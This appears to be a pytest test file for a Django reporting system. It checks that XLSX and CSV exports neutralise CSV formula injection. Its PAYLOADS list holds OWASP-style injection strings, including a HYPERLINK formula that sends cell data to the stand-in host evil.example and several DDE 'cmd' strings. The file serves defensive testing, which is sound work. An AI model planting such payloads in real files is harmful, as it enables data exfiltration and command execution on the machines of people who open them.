"""Every spreadsheet the system hands out, fed formulas through the data people type, holds no
formula and no cell a spreadsheet would run (OWASP's CSV injection payloads).

The exports, through their addresses: the year's efficiency workbook and the consumption
template (resources), every table import's template (imports), the task table (reporting), an
official document's XLSX annex (reports), an indicator's CSV and XLSX (portal).
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from benvung.api import services as tokens
from benvung.conftest import client_for, make_enterprise, make_site, make_user
from benvung.core import tableimport
from benvung.core.spreadsheet import TRIGGERS
from benvung.indicators.models import IndicatorResult
from benvung.plans.models import Task
from benvung.reporting import services as reporting
from benvung.reporting.models import TaskReport
from benvung.reporting.tests.conftest import at
from benvung.reports.models import GeneratedDocument
from benvung.reports.tests.conftest import issue, ready_to_issue
from benvung.resources import services as resources
from benvung.resources.models import SiteYear

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("tasks_on_commit")]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"Xem")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
]


def unsafe_cells(content: bytes) -> list[str]:
    """The cells of a workbook that hold a formula or start with a formula's character."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def unsafe_fields(content: bytes) -> list[str]:
    """The fields of a CSV file that start with a formula's character (numbers aside)."""
    found = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for value in row:
            if value.startswith(TRIGGERS):
                try:
                    float(value)
                except ValueError:
                    found.append(value)
    return found


def _site_year(owner: Any, site: Any, year: int, product: str, kwh: str) -> None:
    site_year = resources.site_year_save(
        actor=owner,
        site=site,
        year=year,
        outputs=[
            {
                "product": product,
                "category": "packaging-paper",
                "quantity": "8000",
                "unit": "t",
                "capacity": "9500",
            }
        ],
        energy=[{"carrier": "grid_electricity", "quantity": kwh, "unit": "kWh"}],
    )
    resources.site_year_submit(actor=owner, site_year=site_year)


@pytest.fixture
def poisoned_site_years(coordinator: Any) -> None:
    """An enterprise, its site and its product, each named with a formula, years submitted."""
    enterprise = make_enterprise(PAYLOADS[1], "312345688")
    site = make_site(enterprise, PAYLOADS[2])
    owner = make_user(enterprise, "enterprise_user", "formula@test.example")
    _site_year(owner, site, 2021, HYPERLINK, "4000000")
    _site_year(owner, site, 2024, HYPERLINK, "3700000")


def test_a_product_named_with_a_formula_is_text_in_the_efficiency_workbook(
    poisoned_site_years: None, coordinator: Any
) -> None:
    response = client_for(coordinator).get(reverse("resources:export_xlsx") + "?year=2024")
    assert response.status_code == 200
    products = load_workbook(io.BytesIO(response.content)).worksheets[0]
    names = [c.value for c in products["E"]]
    assert "'" + HYPERLINK in names
    assert unsafe_cells(response.content) == []


def _typed_in(how: str, owner: Any, site: Any, year: int, product: str) -> None:
    """A product entered the way an enterprise enters it, through the API or the form."""
    output = {"product": product, "category": "packaging-paper", "quantity": "8000", "unit": "t"}
    energy = {"carrier": "grid_electricity", "quantity": "4000000", "unit": "kWh"}
    if how == "api":
        _token, raw = tokens.token_issue(
            actor=owner, user=owner, name="ERP", scopes=("read", "write")
        )
        item = {"tax_code": site.enterprise.tax_code, "site": site.name, "year": year}
        response = Client(headers={"authorization": f"Bearer {raw}"}).post(
            "/api/resources/site-years",
            json.dumps({"items": [{**item, "outputs": [output], "energy": [energy]}]}),
            content_type="application/json",
        )
        assert response.status_code == 200, response.content
    else:
        data = {"allocation_rule": "mass"}
        for prefix, rows in (("out", [output]), ("en", [energy]), ("mat", [])):
            data |= {f"{prefix}-TOTAL_FORMS": str(len(rows)), f"{prefix}-INITIAL_FORMS": "0"}
            for i, row in enumerate(rows):
                data |= {f"{prefix}-{i}-{k}": v for k, v in row.items()}
        response = client_for(owner).post(
            reverse("resources:site_year_edit", args=[site.pk, year]), data
        )
        assert response.status_code == 302, response.content.decode()[:2000]
    resources.site_year_submit(actor=owner, site_year=SiteYear.objects.get(site=site, year=year))


@pytest.mark.parametrize("how", ["api", "form"])
def test_a_formula_typed_as_a_product_through_the_api_or_the_form_stays_text(
    how: str, coordinator: Any
) -> None:
    enterprise = make_enterprise("Công ty Giấy Xanh", "312345696")
    site = make_site(enterprise, "Nhà máy Nhơn Trạch")
    owner = make_user(enterprise, "enterprise_user", "api-form@test.example")
    for year in (2021, 2024):
        _typed_in(how, owner, site, year, HYPERLINK)
    response = client_for(coordinator).get(reverse("resources:export_xlsx") + "?year=2024")
    assert response.status_code == 200
    cells = list(load_workbook(io.BytesIO(response.content)).worksheets[0]["E"])
    (product,) = [c for c in cells if c.value and "HYPERLINK" in str(c.value)]
    assert product.data_type == "s" and product.value == "'" + HYPERLINK
    assert unsafe_cells(response.content) == []


def test_the_resource_templates_hold_no_formula(
    poisoned_site_years: None, coordinator: Any
) -> None:
    client = client_for(coordinator)
    for url in (
        reverse("imports:template", args=["consumption"]),
        reverse("imports:template", args=["consumption"]) + "?year=2024",
    ):
        response = client.get(url)
        assert response.status_code == 200
        assert unsafe_cells(response.content) == [], url


def test_every_table_import_template_holds_no_formula(
    poisoned_site_years: None, coordinator: Any, sysadmin: Any
) -> None:
    kinds = [cls.kind for cls in tableimport.importers()]
    assert kinds
    for kind in kinds:
        for user in (coordinator, sysadmin):
            response = client_for(user).get(reverse("imports:template", args=[kind]))
            if response.status_code == 403:
                continue
            assert response.status_code == 200, kind
            assert unsafe_cells(response.content) == [], kind


@pytest.fixture
def poisoned_report(cycle_2025: Any, agency_reporter: Any, coordinator: Any) -> Any:
    """An agency's accepted report whose every text starts with a formula; the agency's short
    name and a task's expected product too, as they begin cells of the task table."""
    agency = agency_reporter.organisation
    agency.short_name = PAYLOADS[4]
    agency.save(update_fields=["short_name"])
    Task.objects.filter(group__plan=cycle_2025.plan).update(expected_product=HYPERLINK)
    with at("2025-11-05"):
        report = reporting.report_start(
            actor=agency_reporter, cycle=cycle_2025, agency=agency_reporter.organisation
        )
    entries = [
        reporting.TaskEntry(
            tr.pk,
            {
                "status": TaskReport.Status.IN_PROGRESS,
                "narrative": PAYLOADS[i % len(PAYLOADS)],
                "events_held": 2,
                "participants": 10,
                "budget_vnd": {"provincial_budget": 1_000_000},
            },
        )
        for i, tr in enumerate(report.task_reports.all())
    ]
    with at("2025-11-10"):
        report = reporting.report_save(
            actor=agency_reporter,
            report=report,
            version=report.version,
            fields={"summary": PAYLOADS[0], "difficulties": PAYLOADS[3], "proposals": PAYLOADS[4]},
            entries=entries,
        )
        report = reporting.report_submit(
            actor=agency_reporter, report=report, version=report.version
        )
    with at("2025-11-20"):
        return reporting.report_accept(actor=coordinator, report=report)


def test_the_task_table_holds_no_formula(poisoned_report: Any, coordinator: Any) -> None:
    with at("2025-11-21"):
        response = client_for(coordinator).get(
            reverse("reporting:task_table_xlsx", args=[poisoned_report.cycle_id])
        )
    assert response.status_code == 200
    assert unsafe_cells(response.content) == []


@pytest.mark.parametrize("kind", ["agency", "annual"])
def test_an_official_documents_workbook_holds_no_formula(
    kind: str, poisoned_report: Any, agency_reporter: Any, coordinator: Any
) -> None:
    # The annual report's task appendix begins cells with the agency's short name.
    if kind == "agency":
        what = {"agency_report": poisoned_report}
        user = agency_reporter
    else:
        what = {"cycle": poisoned_report.cycle}
        user = coordinator
        ready_to_issue(poisoned_report.cycle, coordinator)
    document = issue(user, kind=kind, formats=["xlsx"], **what)
    document.refresh_from_db()
    assert document.state == GeneratedDocument.State.DONE
    response = client_for(user).get(
        reverse("reports:document_download", args=[document.pk, "xlsx"])
    )
    assert response.status_code == 200
    assert unsafe_cells(b"".join(response.streaming_content)) == []


def test_an_indicators_open_data_holds_no_formula(client: Any) -> None:
    code = "resource_consumption_reduction"
    for i, payload in enumerate(PAYLOADS):
        IndicatorResult.objects.create(
            indicator=code,
            year=2024,
            scope_kind="enterprise",
            scope_key=f"x{i}",
            scope_label=payload,
            value=Decimal("-3.5"),
            computed_at=timezone.now(),
        )
    csv_file = client.get(reverse("portal:indicator_data", args=[code, "csv"]))
    assert csv_file.status_code == 200
    assert "evil.example" in csv_file.content.decode("utf-8-sig")  # the label is there, as text
    assert unsafe_fields(csv_file.content) == []
    workbook = client.get(reverse("portal:indicator_data", args=[code, "xlsx"]))
    assert unsafe_cells(workbook.content) == []
    # A negative figure stays a number.
    values = [c.value for c in load_workbook(io.BytesIO(workbook.content))["data"]["F"]][1:]
    assert -3.5 in values
